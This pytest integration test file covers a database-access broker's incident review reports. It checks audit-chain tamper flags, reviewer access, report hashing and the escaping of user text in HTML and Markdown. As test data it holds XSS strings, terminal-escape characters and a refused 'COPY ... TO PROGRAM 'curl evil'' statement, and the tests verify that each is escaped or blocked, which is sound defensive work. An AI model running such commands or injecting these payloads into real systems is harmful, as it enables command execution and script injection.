"""The post-incident record (``GET /v1/incidents/{incident}/review``): an incident's
break-glass sessions, their endings and statements, and the flags a reviewer looks at
first — through the broker in-process, with real tokens, a real PostgreSQL target and the
real store, statement records written as a gateway writes them."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import jwt
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from dbaccess.broker.api.app import create_app
from dbaccess.broker.settings import load_settings
from dbaccess.broker.store import Store, audit, leases, statement_blocks
from dbaccess.cli.app import app as cli
from dbaccess.client import context as cli_api
from dbaccess.client.auth.token_store import StoredLogin, save_login
from dbaccess.client.config import Profile, ProfileFile
from dbaccess.gateway.records import StatementRecord
from dbaccess.gateway.store_sink import StoreSink
from dbaccess.sandbox.stack import PROVISIONER_ENV, Stack
from tests.inprocess import Shared

pytestmark = pytest.mark.integration

HOSTILE_REASON = "orders stuck <script>alert('reason')</script>"
HOSTILE_SQL = "SELECT '<script>alert(1)</script>' AS x -- \x1b[2J\u202etxt.exe"


@dataclass
class Incident:
    api: TestClient
    store: Store
    session_id: str
    stack: Stack


def as_(tokens: dict[str, str], who: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens[who]}"}


def record(lease_id: str, sql: str, rows: int | None = 1, **changes: Any) -> StatementRecord:
    values: dict[str, Any] = dict(
        lease_id=lease_id, person="carol", target="demo", role="readwrite", kind="query",
        sql=sql, params_policy="none", params=None, started=datetime.now(UTC),
        duration=0.002, rows=rows, bytes_out=64, bytes_in=0, sqlstate=None,
        status="completed", connection=1,
    )  # fmt: skip
    values.update(changes)
    return StatementRecord(**values)


@pytest.fixture
def incident(
    stack: Stack, tmp_path: Path, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Incident]:
    """carol breaks the glass for INC-4711, runs four statements (a read, a hostile one,
    a DDL, a bulk read) and ends the session."""
    monkeypatch.setenv(PROVISIONER_ENV, stack.provisioner_password)
    db = tmp_path / "broker.db"
    store = Store(f"sqlite:///{db}")
    settings = load_settings(stack.broker_config)
    settings = settings.model_copy(
        update={"broker": settings.broker.model_copy(update={"store": f"sqlite:///{db}"})}
    )
    with TestClient(create_app(settings, store=store, run_reaper=False)) as api:
        opened = api.post(
            "/v1/breakglass",
            headers=as_(tokens, "carol"),
            json={"target": "demo", "incident": "INC-4711", "reason": HOSTILE_REASON},
        )
        assert opened.status_code == 201, opened.text
        session_id = opened.json()["id"]
        StoreSink(store, "gw-1").write(
            [
                record(session_id, "SELECT count(*) FROM orders"),
                record(session_id, HOSTILE_SQL),
                record(session_id, "ALTER TABLE orders ADD COLUMN note text", rows=None),
                record(session_id, "SELECT * FROM orders", rows=25_000),
            ]
        )
        ended = api.delete(f"/v1/sessions/{session_id}", headers=as_(tokens, "carol"))
        assert ended.status_code == 200, ended.text
        yield Incident(api, store, session_id, stack)
    store.close()


def flags_of(report: dict[str, Any]) -> list[tuple[str, int | None]]:
    return sorted(((f["kind"], f["seq"]) for f in report["flags"]), key=lambda f: (f[0], f[1] or 0))


def test_the_report_holds_the_session_its_statements_and_flags(
    incident: Incident, tokens: dict[str, str]
) -> None:
    answer = incident.api.get("/v1/incidents/INC-4711/review", headers=as_(tokens, "dave"))
    assert answer.status_code == 200, answer.text
    report = answer.json()
    assert report["incident"] == "INC-4711"
    [session] = report["sessions"]
    assert session["id"] == incident.session_id
    assert (session["subject"], session["target"], session["role"]) == (
        "carol",
        "demo",
        "readwrite",
    )
    assert session["reason"] == HOSTILE_REASON
    assert session["revoke_cause"] and session["revoked_at"] and session["ended_at"]
    assert session["ended_at"] <= session["revoked_at"]
    assert session["approvals"] == []  # break-glass: no approval wait
    assert [s["sql"] for s in session["statements"]][1] == HOSTILE_SQL
    assert [s["classes"] for s in session["statements"]] == [["read"], ["read"], ["ddl"], ["read"]]
    assert session["chain_ok"] is True
    assert report["opened_at"] == session["created_at"] and report["closed_at"] is None
    # the DDL and the 25,000-row read; revoked at once, chain whole
    assert flags_of(report) == [("bulk_read", 4), ("ddl", 3)]
    assert report["audit_chain_ok"] is True


def test_late_revocation_broken_chain_and_access_after_the_review(
    incident: Incident, tokens: dict[str, str]
) -> None:
    store = incident.store
    lease = store.get(incident.session_id)
    assert lease is not None and lease.revoked_at is not None
    with store.engine.begin() as conn:
        conn.execute(
            leases.update()
            .where(leases.c.id == incident.session_id)
            .values(revoked_at=lease.revoked_at + timedelta(seconds=95))
        )
        conn.execute(
            statement_blocks.update()
            .where(statement_blocks.c.lease_id == incident.session_id)
            .values(records=sa.func.replace(statement_blocks.c.records, "orders", "ordres"))
        )
        granted = conn.execute(
            sa.select(audit.c.seq).where(audit.c.event == "breakglass.granted")
        ).scalar_one()
        conn.execute(
            audit.update()
            .where(audit.c.seq == granted)
            .values(detail=sa.func.replace(audit.c.detail, "INC-4711", "INC-4712"))
        )
    closed = incident.api.post(
        f"/v1/reviews/{incident.session_id}/close",
        headers=as_(tokens, "dave"),
        json={"note": "looked at it"},
    )
    assert closed.status_code == 200, closed.text
    StoreSink(store, "gw-1").write(
        [record(incident.session_id, "SELECT 1", started=datetime.now(UTC) + timedelta(hours=1))]
    )
    report = incident.api.get("/v1/incidents/INC-4711/review", headers=as_(tokens, "dave")).json()
    kinds = {kind for kind, _ in flags_of(report)}
    assert {"late_revocation", "broken_chain", "after_review"} <= kinds
    late = next(f for f in report["flags"] if f["kind"] == "late_revocation")
    assert "95 s" in late["message"] and late["session_id"] == incident.session_id
    after = next(f for f in report["flags"] if f["kind"] == "after_review")
    assert after["seq"] == 5
    assert report["sessions"][0]["chain_ok"] is False
    assert report["closed_at"] is not None
    trail = [f for f in report["flags"] if f["kind"] == "broken_chain" and not f["session_id"]]
    assert report["audit_chain_ok"] is False and f"at record {granted}" in trail[0]["message"]


def test_only_reviewers_read_it_and_unknown_incidents_are_404(
    incident: Incident, tokens: dict[str, str]
) -> None:
    url = "/v1/incidents/INC-4711/review"
    assert incident.api.get(url, headers=as_(tokens, "alice")).status_code == 403
    unknown = incident.api.get("/v1/incidents/INC-9/review", headers=as_(tokens, "dave"))
    assert unknown.status_code == 404 and unknown.json()["error"]["code"] == "not_found"


def test_markdown_and_html_escape_what_people_wrote(
    incident: Incident, tokens: dict[str, str]
) -> None:
    url = "/v1/incidents/INC-4711/review"
    report = incident.api.get(url, headers=as_(tokens, "dave")).json()
    md = incident.api.get(url, params={"format": "md"}, headers=as_(tokens, "dave"))
    assert md.status_code == 200 and md.headers["content-type"].startswith("text/markdown")
    html = incident.api.get(url, params={"format": "html"}, headers=as_(tokens, "dave"))
    assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
    for text in (md.text, html.text):
        assert "<script" not in text
        assert "\x1b" not in text and "\u202e" not in text
        assert "x1b" in text and "u202etxt.exe" in text  # written out, not obeyed
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text  # the SQL, shown escaped
        assert "orders stuck &lt;script&gt;" in text  # the reason
        assert report["hash"] in text and incident.session_id in text
    assert "| ddl |" in md.text and "| bulk_read |" in md.text
    page = html.text
    assert "\\x1b[2J\\u202etxt.exe" in page
    assert page.count("<svg") == 1 and "<image" not in page  # the timeline, inline
    assert 'class="flagged"' in page and "https://" not in page.split("<svg")[0]
    assert "ALTER TABLE orders ADD COLUMN note text" in page
    bad = incident.api.get(url, params={"format": "pdf"}, headers=as_(tokens, "dave"))
    assert bad.status_code == 422


def test_the_hash_is_of_the_record_not_of_when_it_was_built(
    incident: Incident, tokens: dict[str, str]
) -> None:
    url = "/v1/incidents/INC-4711/review"
    first = incident.api.get(url, headers=as_(tokens, "dave")).json()
    time.sleep(0.01)
    again = incident.api.get(url, headers=as_(tokens, "dave")).json()
    assert first["generated_at"] != again["generated_at"]
    assert first["hash"] == again["hash"] and len(first["hash"]) == 64


def login_cli(
    incident: Incident, tokens: dict[str, str], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli_api, "http_client", lambda: Shared(incident.api))
    profiles = ProfileFile.load()
    profiles.profiles["default"] = Profile("default", "http://testserver")
    profiles.save()
    token = tokens[name]
    claims = jwt.decode(token, options={"verify_signature": False})
    save_login(
        "default",
        StoredLogin(
            issuer=incident.stack.idp.issuer,
            client_id=incident.stack.idp.client_id,
            scopes=["openid"],
            id_token=token,
            refresh_token=None,
            expires_at=claims["exp"],
            subject=name,
        ),
    )


def dbaccess(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args), prog_name="dbaccess")


def test_the_cli_writes_the_report_in_each_format(
    incident: Incident, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    login_cli(incident, tokens, "dave", monkeypatch)
    md = dbaccess("review", "INC-4711")  # no --note: a report, in Markdown
    assert md.exit_code == 0, md.output
    assert md.stdout.startswith("# Incident review: INC-4711") and "| ddl |" in md.stdout
    assert "<script" not in md.stdout and "\x1b" not in md.stdout
    as_json = dbaccess("review", "INC-4711", "--format", "json")
    assert as_json.exit_code == 0, as_json.output
    report = json.loads(as_json.stdout)
    assert report["sessions"][0]["id"] == incident.session_id and len(report["hash"]) == 64
    page = tmp_path / "INC-4711.html"
    html = dbaccess("review", "INC-4711", "--format", "html", "--output", str(page))
    assert html.exit_code == 0, html.output
    assert "written to" in html.stdout and page.read_text().startswith("<!doctype html>")
    assert "<svg" in page.read_text() and "<script" not in page.read_text()
    assert page.stat().st_mode & 0o777 == 0o600  # production SQL: the owner's only
    enveloped = dbaccess("--json", "review", "INC-4711", "--format", "json")
    assert json.loads(enveloped.stdout)["data"]["hash"] == report["hash"]


def test_the_cli_refuses_mixed_options_and_non_reviewers(
    incident: Incident, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    login_cli(incident, tokens, "dave", monkeypatch)
    mixed = dbaccess("review", incident.session_id, "--note", "ok", "--format", "html")
    assert mixed.exit_code == 2 and "--note" in mixed.output
    bad = dbaccess("review", "INC-4711", "--format", "pdf")
    assert bad.exit_code == 2 and "md, json or html" in bad.output
    unknown = dbaccess("review", "INC-1")
    assert unknown.exit_code != 0 and "no break-glass session for incident INC-1" in unknown.output
    login_cli(incident, tokens, "alice", monkeypatch)
    denied = dbaccess("review", "INC-4711")
    assert denied.exit_code != 0 and "reviewer group" in denied.output
    # closing still works with --note
    login_cli(incident, tokens, "dave", monkeypatch)
    closed = dbaccess("review", incident.session_id[:8], "--note", "fine")
    assert closed.exit_code == 0 and "closed" in closed.stdout


def test_closing_a_review_records_the_hash_of_the_report_it_closed_on(
    incident: Incident, tokens: dict[str, str]
) -> None:
    url = "/v1/incidents/INC-4711/review"
    seen = incident.api.get(url, headers=as_(tokens, "dave")).json()["hash"]
    closed = incident.api.post(
        f"/v1/reviews/{incident.session_id}/close",
        headers=as_(tokens, "dave"),
        json={"note": "the DDL was the fix"},
    )
    assert closed.status_code == 200, closed.text
    assert closed.json()["report_sha256"] == seen
    [event] = incident.store.audit_records(incident.session_id, event="review.closed")
    assert event.detail["report_sha256"] == seen and event.subject == "dave"
    after = incident.api.get(url, headers=as_(tokens, "dave"))
    assert after.json()["sessions"][0]["review_report_sha256"] == seen
    assert after.json()["hash"] != seen  # the close is part of the record now
    md = incident.api.get(url, params={"format": "md"}, headers=as_(tokens, "dave")).text
    assert f"closed on the report with SHA-256 `{seen}`" in md


def test_statements_before_the_incident_and_refused_ones_are_flagged(
    incident: Incident, tokens: dict[str, str]
) -> None:
    StoreSink(incident.store, "gw-1").write(
        [
            # a clock that says the statement ran before the glass was broken
            record(incident.session_id, "SELECT 2", started=datetime.now(UTC) - timedelta(days=1)),
            record(
                incident.session_id,
                "COPY orders TO PROGRAM 'curl evil'",
                rows=None,
                status="refused",
                rule="statements.untrusted",
                sqlstate="42501",
            ),
        ]
    )
    report = incident.api.get("/v1/incidents/INC-4711/review", headers=as_(tokens, "dave")).json()
    assert ("before_incident", 5) in flags_of(report)
    refused = next(f for f in report["flags"] if f["kind"] == "outside_scope")
    assert refused["seq"] == 6 and "statements.untrusted" in refused["message"]
